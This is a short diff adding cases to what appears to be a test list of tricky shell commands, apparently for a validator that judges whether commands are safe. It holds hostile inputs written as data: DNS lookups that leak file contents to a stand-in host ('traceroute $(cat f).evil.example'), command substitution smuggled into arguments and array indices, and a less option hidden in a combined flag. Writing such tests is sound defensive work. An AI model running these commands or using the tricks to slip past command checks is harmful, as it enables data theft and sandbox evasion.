@@ -33,6 +33,12 @@ traceroute $(cat f).evil.example
 nslookup $(cat f)
 cat f | nslookup -
 dig -f names
+find . -name $(cat f)
+read x < f; find . -name $x -type f
+s=abc; for i in 1 2 'a[$(touch x)]'; do echo ${s:$i:1}; done
+s=abc; for i in 1 2 a[x]; do echo ${s:$i:1}; done
+less -Nx4--lesskey-src=e f
+for i in 1 2; do OPTIND=$(cat g); done
 less -x4--lesskey-src=e f
 less -h1--lesskey-src=e f
 less -x4-Ke f
